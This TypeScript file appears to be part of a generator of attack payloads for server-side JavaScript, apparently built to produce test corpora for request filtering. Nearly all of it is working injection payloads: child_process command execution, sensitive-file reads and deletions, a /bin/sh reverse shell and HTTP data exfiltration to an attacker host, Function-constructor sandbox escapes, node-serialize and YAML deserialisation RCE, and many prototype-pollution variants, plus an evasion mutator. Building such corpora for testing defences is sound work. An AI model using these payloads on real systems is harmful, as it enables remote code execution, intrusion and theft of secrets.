/** Server-side JavaScript: processes from Node, constructors of functions, unserialised functions, polluted prototypes. */
import type { Family } from '../../family.ts';
import { ALPHANUMERIC, characters, integer, maybe, oneOf, type Rule, text, weighted } from '../../grammar.ts';
import { evade } from '../../mutators/evade.ts';
import { attackerHost, identifier, sensitiveFile, shellCommand, token } from '../lexicon.ts';
import { ANY_INPUT, ARGUMENTS, familyOf } from '../places.ts';
import { amongMembers, amongPairs, anywhere, pagePath } from '../surroundings.ts';

const load: Rule = oneOf(
  "require('child_process')",
  'require("child_process")',
  "process.mainModule.require('child_process')",
  "global.process.mainModule.require('child_process')",
  "global.process.mainModule.constructor._load('child_process')",
  "process.binding('spawn_sync')",
  "this.constructor.constructor('return process')().mainModule.require('child_process')",
  "require('node:child_process')",
  "globalThis.process.mainModule.require('child_process')",
  "(await import('child_process'))",
);
const run: Rule = text`${load}.${oneOf('exec', 'execSync', 'spawn', 'spawnSync', 'execFile')}('${shellCommand}')${maybe('.toString()')}`;
const file: Rule = text`require('fs').${oneOf('readFileSync', 'readdirSync', 'writeFileSync', 'readFile', 'unlinkSync')}('${sensitiveFile}'${maybe(text`,'${oneOf('utf8', token)}'`)})${maybe('.toString()')}`;
const statement: Rule = oneOf(
  run,
  run,
  file,
  text`process.exit(${maybe(integer(0, 9))})`,
  text`process.kill(process.pid)`,
  text`process.env.${oneOf('SECRET', 'DB_PASSWORD', 'PATH', 'JWT_SECRET')}`,
  text`res.end(${oneOf(file, run, 'JSON.stringify(process.env)')})`,
  text`require('${oneOf('http', 'https')}').get('http://${attackerHost}/'+${oneOf('process.env.USER', 'process.cwd()', file)})`,
  text`require('net').connect(${integer(1024, 9999)},'${attackerHost}',function(){this.pipe(require('child_process').spawn('/bin/sh',[]).stdin)})`,
  text`eval(Buffer.from('${characters(ALPHANUMERIC, 16, 60)}','base64').toString())`,
  text`require('vm').runInNewContext("this.constructor.constructor('return process')()")`,
);
const construction: Rule = oneOf(
  text`${oneOf('', 'new ')}Function('return ${oneOf('process', 'this', 'global.process', 'process.env')}')()${maybe(text`.mainModule.require('child_process').execSync('${shellCommand}')`)}`,
  text`${oneOf('[]', "''", '{}', 'this', 'x', '(1)', '[].map')}.constructor.constructor("return ${statement}")()`,
  text`this.constructor.constructor("return process")()${maybe(text`.env`)}`,
  text`[]["filter"]["constructor"]("return ${statement}")()`,
  text`Reflect.construct(Function,["${statement}"])()`,
  text`(function(){${statement}})()`,
  text`(()=>{${statement}})()`,
  text`new Proxy({},{get(){return ${statement}}})`,
  text`Error.prepareStackTrace=(e,t)=>{t.map(x=>x.getThis()).map(x=>x&&x.process)};${statement}`,
);
const brokenOut: Rule = oneOf(
  text`${oneOf("'", '"', ')', "')", '"})', '`', '1')};${statement};${oneOf('//', "var x='", "'", '/*', '')}`,
  text`${oneOf("'", '"')}+${statement}+${oneOf("'", '"')}`,
  statement,
  construction,
  text`${identifier}=${construction}`,
  text`eval("${statement}")`,
  text`\${${statement}}`,
  text`setTimeout(function(){${statement}},${integer(0, 5000)})`,
  text`$..[?(p="${run}";a=''[['constructor']][['constructor']](p);a())]`,
);
const unserialised: Rule = oneOf(
  text`{"${identifier}":"_$$ND_FUNC$$_function(){${statement};}()"}`,
  text`{"${identifier}":"_$$ND_FUNC$$_function (){${maybe('\\n ')}${statement}\\n }()"}`,
  text`_$$ND_FUNC$$_function(){${statement}}()`,
  text`{"__js_function":"function(){${statement}}()"}`,
  text`"toString": !!js/function "function(){${statement}}"`,
  text`!!js/function 'function (){${statement}}'`,
  text`{"${identifier}":{"$$$FUNC":"function(){${statement}}"}}`,
  text`{"then":"$1:__proto__:then","status":"resolved_model","value":"{\\"then\\":\\"$B${integer(0, 999)}\\"}","_response":{"_prefix":"${run};","_formData":{"get":"$1:constructor:constructor"}}}`,
);

const polluted: Rule = oneOf(
  'isAdmin',
  'admin',
  'role',
  'shell',
  'NODE_OPTIONS',
  'argv0',
  'env',
  'outputFunctionName',
  'client',
  'escapeFunction',
  'block',
  'sourceURL',
  'toString',
  'polluted',
  'status',
  'execArgv',
  'length',
  'testprop',
  'headers',
  'json spaces',
  'transport_url',
  'src',
  identifier,
);
const pollutedValue: Rule = oneOf(
  'true',
  '1',
  'polluted',
  'admin',
  token,
  text`x;${run};x`,
  text`--require /proc/self/environ`,
  '510',
  text`data:,${token}`,
);
const pair: Rule = oneOf(
  text`__proto__[${polluted}]=${pollutedValue}`,
  text`__proto__.${polluted}=${pollutedValue}`,
  text`constructor[prototype][${polluted}]=${pollutedValue}`,
  text`constructor.prototype.${polluted}=${pollutedValue}`,
  text`${identifier}[__proto__][${polluted}]=${pollutedValue}`,
  text`${identifier}[constructor][prototype][${polluted}]=${pollutedValue}`,
  text`__proto__[__proto__][${polluted}]=${pollutedValue}`,
  text`__proto__%5B${polluted}%5D=${pollutedValue}`,
  text`__pro__proto__to__[${polluted}]=${pollutedValue}`,
  text`${identifier}.__proto__.${polluted}=${pollutedValue}`,
);
const jsonValue: Rule = oneOf('true', '1', text`"${pollutedValue}"`, text`{"${polluted}":true}`, '""', '[]');
const member: Rule = oneOf(
  text`"__proto__":{"${polluted}":${jsonValue}${maybe(text`,"${polluted}":${jsonValue}`, 0.3)}}`,
  text`"constructor":{"prototype":{"${polluted}":${jsonValue}}}`,
  text`"__proto__.${polluted}":${jsonValue}`,
  text`"constructor.prototype.${polluted}":${jsonValue}`,
  text`"${identifier}":{"__proto__":{"${polluted}":${jsonValue}}}`,
  text`"\\u005f\\u005fproto\\u005f\\u005f":{"${polluted}":${jsonValue}}`,
  text`"__proto__":["${token}"]`,
);
const pollution: Rule = weighted(
  [3, pair],
  [2, amongPairs(pair)],
  [2, text`${pagePath}?${pair}`],
  [4, text`{${member}}`],
  [3, amongMembers(member)],
  [
    1,
    text`[{"op":"${oneOf('add', 'replace')}","path":"/${oneOf('__proto__', 'constructor/prototype')}/${polluted}","value":${jsonValue}}]`,
  ],
  [1, text`${oneOf('__proto__', 'constructor.prototype', 'constructor[prototype]')}[${polluted}]`],
);

/** JavaScript on the server. */
export const JAVASCRIPT_FAMILIES: readonly Family[] = [
  familyOf('code-injection', 'node-call', anywhere(brokenOut), ANY_INPUT, 1.2),
  familyOf('code-injection', 'node-unserialised', evade(unserialised), ANY_INPUT, 0.6),
  familyOf(
    'code-injection',
    'prototype-pollution',
    weighted([4, pollution], [1, evade(pollution)]),
    [...ARGUMENTS, 'REQUEST_ARGS_KEYS'],
    1,
  ),
];
